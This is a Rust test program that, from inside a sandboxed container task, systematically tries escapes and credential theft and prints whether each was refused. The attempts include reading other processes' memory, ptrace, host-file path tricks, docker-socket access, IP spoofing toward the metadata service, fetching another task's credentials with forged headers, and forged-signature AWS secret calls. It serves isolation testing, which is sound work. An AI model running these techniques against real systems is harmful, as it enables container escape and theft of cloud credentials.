//! What an attacker does with code running in a service: one attempt after the other, each a row that says what
//! must come of it. Static, of this one file, so that an image from scratch holds it. Prints a line for each:
//! `held <attempt>: <how it was refused>`, `other <attempt>: …` where it was refused in another way than the row
//! says, `WORKED <attempt>: …`. Only for the inside of a task: nothing here would destroy anything elsewhere, but
//! much of it would succeed.
//!
//! What there is to attack comes by the environment: `HOST_*` and `VICTIM_*`.
#![allow(unsafe_code)]

#[path = "hostile/root.rs"]
mod root;
#[path = "hostile/system.rs"]
mod system;

use root::{capabilities, owners, raw, rights};
use std::ffi::CString;
use std::fmt::Display;
use std::fs;
use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::linux::net::SocketAddrExt;
use std::os::raw::{c_char, c_int, c_long, c_ulong, c_void};
use std::os::unix::net::UnixStream;
use std::os::unix::process::ExitStatusExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;
use system::{compat, devices, kernel, last, privilege, settings};

unsafe extern "C" {
    fn mount(s: *const c_char, t: *const c_char, k: *const c_char, f: c_ulong, d: *const c_void) -> c_int;
    fn unshare(flags: c_int) -> c_int;
    fn setns(fd: c_int, kind: c_int) -> c_int;
    fn mknod(path: *const c_char, mode: u32, dev: u64) -> c_int;
    fn ptrace(request: c_int, pid: c_int, a: *mut c_void, d: *mut c_void) -> c_long;
    fn chroot(path: *const c_char) -> c_int;
    fn syscall(number: c_long, ...) -> c_long;
    fn socket(family: c_int, kind: c_int, protocol: c_int) -> c_int;
    fn setsockopt(fd: c_int, level: c_int, name: c_int, value: *const c_void, length: u32) -> c_int;
    fn bind(fd: c_int, address: *const SockAddrIn, length: u32) -> c_int;
    fn connect(fd: c_int, address: *const SockAddrIn, length: u32) -> c_int;
    fn kill(pid: c_int, signal: c_int) -> c_int;
    fn setrlimit(resource: c_int, limit: *const [u64; 2]) -> c_int;
    fn setpriority(which: c_int, who: u32, priority: c_int) -> c_int;
    fn sched_setscheduler(pid: c_int, policy: c_int, priority: *const c_int) -> c_int;
    fn prctl(option: c_int, ...) -> c_int;
    fn setuid(uid: u32) -> c_int;
    fn chown(path: *const c_char, uid: u32, gid: u32) -> c_int;
}

#[repr(C)]
struct SockAddrIn {
    family: u16,
    port: u16,
    address: [u8; 4],
    zero: [u8; 8],
}

// What a refusal may be (asm-generic/errno.h).
const EPERM: i32 = 1;
const ENOENT: i32 = 2;
const ESRCH: i32 = 3;
const EACCES: i32 = 13;
const EINVAL: i32 = 22;
const EROFS: i32 = 30;
const ENOSYS: i32 = 38;
const EADDRNOTAVAIL: i32 = 99;
const ENETUNREACH: i32 = 101;
const ECONNREFUSED: i32 = 111;
/// Nobody answers, within the attempt's patience.
const SILENCE: i32 = -1;

/// A path that is not there, or is not the attacker's to see.
const NO_FILE: &[i32] = &[ENOENT, EACCES, EPERM, 20];
const NO_WRITE: &[i32] = &[EROFS, EACCES, EPERM, ENOENT, 20, 26];
const NO_CALL: &[i32] = &[EPERM, ENOSYS];
const NO_PROCESS: &[i32] = &[ESRCH, ENOENT];
const NO_WAY: &[i32] = &[ECONNREFUSED, SILENCE, ENETUNREACH, 113, EADDRNOTAVAIL];

fn main() {
    match std::env::args().nth(1).as_deref() {
        Some("compat") => compat(),
        Some("rights") => rights(),
        _ => {}
    }
    let parts = [
        processes,
        files,
        network,
        raw,
        credentials,
        control,
        kernel,
        devices,
        owners,
        capabilities,
        privilege,
        settings,
        last,
    ];
    for part in parts {
        if std::panic::catch_unwind(part).is_err() {
            println!("panicked");
        }
    }
    println!("done");
    // Who reads this finds it while the task is there.
    loop {
        std::thread::sleep(Duration::from_secs(3600));
    }
}

/// One attempt: what it brought, or how it was refused.
fn attempt<T: Display>(name: impl Display, expected: &[i32], result: io::Result<T>) {
    match result {
        Ok(brought) => println!("WORKED {name}: {brought}"),
        Err(error) => {
            let code = match error.kind() {
                ErrorKind::TimedOut | ErrorKind::WouldBlock => SILENCE,
                _ => error.raw_os_error().unwrap_or(0),
            };
            let verdict = if expected.contains(&code) { "held" } else { "other" };
            println!("{verdict} {name}: {error}");
        }
    }
}

/// An attempt that is refused by an answer and not by an error.
fn answer(name: impl Display, expected: &[u16], answered: io::Result<(u16, String)>) {
    match answered {
        Ok((status, _)) if expected.contains(&status) => println!("held {name}: {status}"),
        Ok((status, body)) if status >= 400 => println!("other {name}: {status} {}", first_line(&body)),
        Ok((status, body)) => println!("WORKED {name}: {status} {}", first_line(&body)),
        Err(error) => println!("other {name}: {error}"),
    }
}

fn first_line(text: &str) -> &str {
    text.lines().next().unwrap_or_default()
}

fn env(name: &str) -> String {
    std::env::var(name).unwrap_or_else(|_| panic!("{name} is not set"))
}

fn list(name: &str) -> Vec<String> {
    env(name).split_whitespace().map(str::to_owned).collect()
}

fn c(text: &str) -> CString {
    CString::new(text).unwrap()
}

/// A C function's 0 or -1 with errno; what is not negative is a success.
fn checked(result: impl Into<i64>) -> io::Result<i64> {
    match result.into() {
        -1 => Err(io::Error::last_os_error()),
        value => Ok(value),
    }
}

fn read(path: impl AsRef<Path>) -> io::Result<String> {
    let mut bytes = Vec::new();
    fs::File::open(path)?.take(200).read_to_end(&mut bytes)?;
    match bytes.is_empty() {
        true => Err(io::Error::from_raw_os_error(ENOENT)),
        false => Ok(String::from_utf8_lossy(&bytes).replace(['\n', '\0'], " ")),
    }
}

fn write(path: impl AsRef<Path>, text: &str) -> io::Result<String> {
    fs::OpenOptions::new().write(true).open(path)?.write_all(text.as_bytes())?;
    Ok("written".into())
}

/// Memory, environment and fate of processes that are not this task's: by their ids on the host.
fn processes() {
    for pid in list("HOST_PIDS") {
        let number: c_int = pid.parse().unwrap();
        for part in ["environ", "maps", "mem", "root/etc/passwd", "cwd", "fd/0", "exe"] {
            attempt(format_args!("read /proc/{pid}/{part}"), NO_FILE, read(format!("/proc/{pid}/{part}")));
        }
        unsafe {
            let (null, pid) = (std::ptr::null_mut(), number);
            attempt(format_args!("signal {pid}"), NO_PROCESS, checked(kill(pid, 0)));
            attempt(format_args!("attach to {pid} (ptrace)"), NO_CALL, checked(ptrace(16, pid, null, null)));
            attempt(format_args!("seize {pid} (ptrace)"), NO_CALL, checked(ptrace(0x4206, pid, null, null)));
            #[cfg(target_arch = "x86_64")]
            {
                let mut buffer = [0u8; 8];
                let local = [buffer.as_mut_ptr() as usize, 8];
                let remote = [0x40_0000_usize, 8];
                for (call, name) in [(310, "process_vm_readv"), (311, "process_vm_writev")] {
                    let done = syscall(call, c_long::from(pid), &local, 1usize, &remote, 1usize, 0usize);
                    attempt(format_args!("{name} {pid}"), NO_CALL, checked(done));
                }
                let opened = syscall(434, c_long::from(pid), 0usize);
                attempt(format_args!("pidfd_open {pid}"), &[ESRCH, EPERM, EINVAL], checked(opened));
                let compared = syscall(312, c_long::from(pid), c_long::from(pid), 0usize, 0usize, 0usize);
                attempt(format_args!("kcmp {pid}"), &[EPERM, ESRCH], checked(compared));
            }
        }
    }
    let mut others: Vec<String> =
        fs::read_dir("/proc").unwrap().flatten().map(|e| e.file_name().into_string().unwrap()).collect();
    let own = std::process::id().to_string();
    others.retain(|name| name.bytes().all(|b| b.is_ascii_digit()) && *name != own && name != "1");
    seen("other processes in /proc", others);
    attempt("everybody at once (kill -1)", NO_PROCESS, unsafe { checked(kill(-1, 0)) });
}

/// Something that must not be there: nothing is the refusal.
fn seen(name: &str, found: Vec<String>) {
    match found.is_empty() {
        true => println!("held {name}: there is nothing"),
        false => println!("WORKED {name}: {}", found.join(" ")),
    }
}

/// Files of the host, of Quarry and of the other service, by every way there.
fn files() {
    for path in list("HOST_FILES") {
        attempt(format_args!("read {path}"), NO_FILE, read(&path));
        for way in ["/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../../..", "/..", "/dev/../.."] {
            attempt(format_args!("read {way}{path}"), NO_FILE, read(format!("{way}{path}")));
        }
        let link = "/tmp/link";
        let _ = fs::create_dir_all("/tmp");
        let _ = fs::remove_file(link);
        let linked = std::os::unix::fs::symlink(&path, link).and_then(|()| read(link));
        attempt(format_args!("read {path} by a link"), NO_FILE, linked);
        let hard = fs::hard_link(&path, "/tmp/hard").and_then(|()| read("/tmp/hard"));
        attempt(format_args!("link {path}"), NO_FILE, hard);
        attempt(format_args!("write {path}"), NO_WRITE, write(&path, "x"));
    }
    for directory in list("HOST_DIRECTORIES") {
        let names = fs::read_dir(&directory).map(|entries| entries.count());
        attempt(format_args!("list {directory}"), NO_FILE, names);
    }
    for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"] {
        attempt(format_args!("connect {path}"), NO_FILE, UnixStream::connect(path).map(|_| "connected"));
    }
    for path in list("HOST_SOCKETS") {
        attempt(format_args!("connect {path}"), NO_FILE, UnixStream::connect(&path).map(|_| "connected"));
    }
    let name = <std::os::unix::net::SocketAddr as SocketAddrExt>::from_abstract_name(env("HOST_ABSTRACT"));
    let abstract_socket = name.and_then(|name| UnixStream::connect_addr(&name));
    attempt("connect an abstract socket of the host", &[ECONNREFUSED], abstract_socket.map(|_| "connected"));
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap();
    let foreign = |line: &&str| {
        [" cgroup", " /home ", " debugfs ", " tracefs ", " securityfs ", " configfs "].iter().any(|k| line.contains(k))
    };
    seen("mounts that lead out", mounts.lines().filter(foreign).map(str::to_owned).collect());
    let leads_out = |fd: &i32| match fs::read_link(format!("/proc/self/fd/{fd}")) {
        Ok(target) => target.starts_with(env("HOST_DATA")) && !target.to_string_lossy().ends_with(".log"),
        Err(_) => false,
    };
    seen("descriptors that lead out", (0..256).filter(leads_out).map(|fd| fd.to_string()).collect());
    // What one could write over to be run by somebody else.
    for exe in ["/proc/self/exe", "/proc/1/exe"] {
        attempt(format_args!("write over {exe}"), NO_WRITE, write(exe, "x"));
    }
}

fn dial(to: SocketAddr) -> io::Result<TcpStream> {
    TcpStream::connect_timeout(&to, Duration::from_millis(700))
}

/// Services that it was not given, the host's, and somebody else's address as its own.
fn network() {
    for to in list("FOREIGN") {
        attempt(format_args!("connect {to}"), NO_WAY, dial(to.parse().unwrap()).map(|_| "connected"));
    }
    let victim: SocketAddr = format!("{}:0", env("VICTIM_SOURCE")).parse().unwrap();
    let taken = UdpSocket::bind(victim);
    attempt("take the other's address", &[EADDRNOTAVAIL], taken.map(|_| "bound"));
    let SocketAddr::V4(source) = victim else { panic!() };
    let at = |ip: [u8; 4], port: u16| SockAddrIn { family: 2, port: port.to_be(), address: ip, zero: [0; 8] };
    let set = |fd: &OwnedFd, level, name| unsafe {
        checked(setsockopt(fd.as_raw_fd(), level, name, (&raw const ONE).cast(), 4))
    };
    for (name, option) in [("IP_FREEBIND", 15), ("IP_TRANSPARENT", 19), ("nothing", 0)] {
        let spoofed = || -> io::Result<i64> {
            let fd = unsafe { OwnedFd::from_raw_fd(checked(socket(2, 1 | 0o4000, 0))? as c_int) };
            if option != 0 {
                set(&fd, 0, option)?;
            }
            let (own, metadata) = (at(source.ip().octets(), 0), at([169, 254, 170, 2], 80));
            checked(unsafe { bind(fd.as_raw_fd(), &own, 16) })?;
            match checked(unsafe { connect(fd.as_raw_fd(), &metadata, 16) }) {
                // Under way: somebody may answer.
                Err(error) if error.raw_os_error() == Some(115) => {
                    let stream = TcpStream::from(fd);
                    std::thread::sleep(Duration::from_millis(300));
                    stream.peer_addr().map(|_| 1)
                }
                other => other,
            }
        };
        attempt(format_args!("ask as the other, {name}"), &[EPERM, EADDRNOTAVAIL, EINVAL, 107, 101], spoofed());
    }
    for (name, level, option) in [("SO_RCVBUFFORCE", 1, 33), ("SO_DEBUG", 1, 1)] {
        let fd = unsafe { OwnedFd::from_raw_fd(socket(2, 1, 0)) };
        attempt(name, &[EPERM, EACCES], set(&fd, level, option));
    }
    let named = unsafe {
        [
            ("packet socket", 17, 3, 0x300),
            ("packet socket, cooked", 17, 2, 0x300),
            ("vsock", 40, 1, 0),
            ("crypto socket", 38, 5, 0),
            ("bluetooth socket", 31, 3, 1),
            ("CAN socket", 29, 3, 1),
            ("XDP socket", 44, 3, 0),
            ("TIPC socket", 30, 1, 0),
            ("RDS socket", 21, 5, 0),
            ("key socket", 15, 3, 2),
        ]
        .map(|(name, family, kind, protocol)| (name, checked(socket(family, kind, protocol))))
    };
    for (name, result) in named {
        attempt(name, &[EPERM, EACCES, 97, 94, 93], result);
    }
    for (name, message) in [
        // Headers of RTM_NEWROUTE, RTM_NEWADDR, RTM_DELLINK, RTM_NEWLINK.
        ("a route by netlink", 24u16),
        ("an address by netlink", 20),
        ("remove eth0 by netlink", 17),
        ("a link by netlink", 16),
    ] {
        attempt(name, &[EPERM, EACCES], netlink(0, message));
    }
    attempt("packet filter by netlink", &[EPERM, EACCES, 93], netlink(12, 0x0a00));
    attempt("audit by netlink", &[EPERM, EACCES, 93, ECONNREFUSED], netlink(9, 1000));
    let mut interfaces: Vec<String> = fs::read_to_string("/proc/net/dev")
        .unwrap()
        .lines()
        .skip(2)
        .map(|line| line.split(':').next().unwrap().trim().to_owned())
        .collect();
    interfaces.retain(|name| name != "lo" && name != "eth0");
    seen("interfaces of others", interfaces);
}

static ONE: c_int = 1;

/// Sends one request; an error that comes back is its result.
fn netlink(family: c_int, kind: u16) -> io::Result<String> {
    let fd = unsafe { OwnedFd::from_raw_fd(checked(socket(16, 3 | 0o4000, family))? as c_int) };
    let mut stream = fs::File::from(fd);
    // Length, type, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, sequence, port; then a body: interface 2, flags down.
    let mut message = vec![48, 0, 0, 0];
    message.extend(kind.to_ne_bytes());
    message.extend(0x405u16.to_ne_bytes());
    message.extend([1, 0, 0, 0, 0, 0, 0, 0]);
    message.extend([2, 32, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    stream.write_all(&message)?;
    std::thread::sleep(Duration::from_millis(20));
    let mut reply = [0u8; 256];
    let read = stream.read(&mut reply)?;
    let code = i32::from_ne_bytes(reply[16..20].try_into().unwrap());
    match (read >= 20, u16::from_ne_bytes([reply[4], reply[5]]), code) {
        (true, 2, 0) => Ok("accepted".into()),
        (true, 2, code) => Err(io::Error::from_raw_os_error(-code)),
        _ => Ok(format!("answered {:?}", &reply[..read.min(24)])),
    }
}

/// One HTTP request: status and body.
fn http(to: &str, method: &str, path: &str, headers: &str, body: &str) -> io::Result<(u16, String)> {
    let mut stream = dial(to.parse().map_err(io::Error::other)?)?;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    let host = if headers.contains("Host:") { String::new() } else { format!("Host: {to}\r\n") };
    let length = body.len();
    write!(
        stream,
        "{method} {path} HTTP/1.1\r\n{host}{headers}Connection: close\r\nContent-Length: {length}\r\n\r\n{body}"
    )?;
    let mut text = String::new();
    stream.read_to_string(&mut text)?;
    let status = text.split(' ').nth(1).and_then(|status| status.parse().ok()).ok_or(ErrorKind::InvalidData)?;
    Ok((status, text.split_once("\r\n\r\n").map(|(_, body)| body.to_owned()).unwrap_or_default()))
}

const METADATA: &str = "169.254.170.2:80";

/// Credentials, metadata and statistics of the other task.
fn credentials() {
    let (credentials, container, source) = (env("VICTIM_CREDENTIALS"), env("VICTIM_CONTAINER"), env("VICTIM_SOURCE"));
    let get = |path: &str, headers: &str| http(METADATA, "GET", path, headers, "");
    let told = source.replacen("198.18", "127.18", 1);
    for (name, path) in [
        ("the other's credentials", format!("/v2/credentials/{credentials}")),
        ("credentials by a guess", "/v2/credentials/00000000-0000-4000-8000-000000000000".to_owned()),
        ("credentials by no id", "/v2/credentials/".to_owned()),
        ("credentials by a wildcard", "/v2/credentials/%25".to_owned()),
        ("credentials by a path", format!("/v4/x/../../v2/credentials/{credentials}")),
        ("credentials as a process", format!("/_quarry/v1/tasks/v2/credentials/{credentials}")),
        ("the other's metadata", format!("/v4/{container}")),
        ("the other's task", format!("/v4/{container}/task")),
        ("the other's statistics", format!("/v4/{container}/stats")),
        ("metadata by a path", format!("/v4//{container}/task/")),
        ("all metadata", "/v4/".to_owned()),
    ] {
        answer(name, &[400, 404], get(&path, ""));
        for header in ["X-Forwarded-For", "X-Real-IP", "Forwarded", "True-Client-IP"] {
            let forged = format!("{header}: {source}\r\n{header}: {told}\r\n");
            answer(format_args!("{name}, with {header}"), &[400, 404], get(&path, &forged));
        }
    }
    answer("a write to the metadata", &[405], http(METADATA, "PUT", "/v4/x", "", "x"));
    let state = format!("/api/{container}/task-protection/v1/state");
    answer("the other's protection", &[404], get(&state, ""));
    let protect = http(METADATA, "PUT", &state, "Content-Type: application/json\r\n", "{\"ProtectionEnabled\":true}");
    answer("protect the other", &[404], protect);
    answer("the other's task's statistics", &[400, 404], get(&format!("/v4/{container}/task/stats"), ""));
    let imds = http("169.254.169.254:80", "GET", "/latest/meta-data/iam/security-credentials/", "", "");
    attempt("instance metadata", NO_WAY, imds.map(|(status, _)| status));
    // And as if the request came to `serve` itself.
    let endpoint = env("AWS_ENDPOINT_URL").trim_start_matches("http://").to_owned();
    for path in [
        format!("/v2/credentials/{credentials}"),
        format!("/_quarry/v1/tasks/v2/credentials/{credentials}"),
        format!("/_quarry/v1/tasks/v4/{container}"),
        format!("/_quarry/v1/tasks/v4/{container}/task"),
    ] {
        answer(format_args!("{path} at the endpoint"), &[400, 401, 403, 404], http(&endpoint, "GET", &path, "", ""));
    }
}

/// The control API without a right to it.
fn control() {
    let endpoint = env("AWS_ENDPOINT_URL").trim_start_matches("http://").to_owned();
    let amz = |target: &str| format!("X-Amz-Target: {target}\r\nContent-Type: application/x-amz-json-1.1\r\n");
    let forged = |service: &str, key: &str| {
        format!(
            "Authorization: AWS4-HMAC-SHA256 Credential={key}/20300101/us-east-1/{service}/aws4_request, \
                 SignedHeaders=host;x-amz-date, Signature={}\r\nX-Amz-Date: 20300101T000000Z\r\n",
            "0".repeat(64)
        )
    };
    for (service, target, body) in [
        ("ecs", "AmazonEC2ContainerServiceV20141113.ListTasks", "{}"),
        ("ecs", "AmazonEC2ContainerServiceV20141113.StopTask", "{\"task\":\"x\"}"),
        ("secretsmanager", "secretsmanager.ListSecrets", "{}"),
        ("secretsmanager", "secretsmanager.GetSecretValue", "{\"SecretId\":\"victim\"}"),
        ("ssm", "AmazonSSM.GetParameter", "{\"Name\":\"/victim\",\"WithDecryption\":true}"),
        ("logs", "Logs_20140328.DescribeLogGroups", "{}"),
        ("ecr", "AmazonEC2ContainerRegistry_V20150921.GetAuthorizationToken", "{}"),
    ] {
        let call = |headers: String| http(&endpoint, "POST", "/", &headers, body);
        let refused = &[400, 401, 403];
        answer(format_args!("{target} unsigned"), refused, call(amz(target)));
        for key in ["test", "AKIAIOSFODNN7EXAMPLE", &env("HOST_KEY_ID")] {
            let signed = amz(target) + &forged(service, key);
            answer(format_args!("{target} signed as {key}"), refused, call(signed));
        }
        let token = format!("X-Amz-Security-Token: {}\r\n", "A".repeat(64));
        answer(
            format_args!("{target} with a made-up token"),
            refused,
            call(amz(target) + &forged(service, "ASIAFORGED") + &token),
        );
    }
    for (path, body) in [
        ("/", "Action=AssumeRole&Version=2011-06-15&RoleArn=arn:aws:iam::000000000000:role/victim&RoleSessionName=x"),
        ("/", "Action=GetCallerIdentity&Version=2011-06-15"),
        ("/", "Action=DescribeInstances&Version=2016-11-15"),
        ("/", "Action=CreateUser&Version=2010-05-08&UserName=x"),
    ] {
        let form = "Content-Type: application/x-www-form-urlencoded\r\n";
        answer(
            format_args!("{} unsigned", body.split('&').next().unwrap()),
            &[400, 401, 403],
            http(&endpoint, "POST", path, form, body),
        );
    }
    for path in [
        "/_quarry/v1/tasks/v4/x",
        "/_quarry/v1/listeners",
        "/_quarry/v1/rules",
        "/_quarry/v1/calls",
        "/_quarry/v1/unserved",
        "/_quarry/v1/cuts",
        "/metrics",
        "/v2/",
        "/v2/_catalog",
        "/v2/peer/manifests/v1",
        "/v2/peer/tags/list",
    ] {
        for headers in ["", "Host: 127.0.0.1:4566\r\n", "Authorization: Basic YTpi\r\n"] {
            let said = headers.trim_end();
            answer(format_args!("GET {path} {said}"), &[401, 403, 404, 400], http(&endpoint, "GET", path, headers, ""));
        }
    }
    let upload = http(&endpoint, "POST", "/v2/peer/blobs/uploads/", "", "");
    answer("a push without a password", &[401, 403], upload);
}
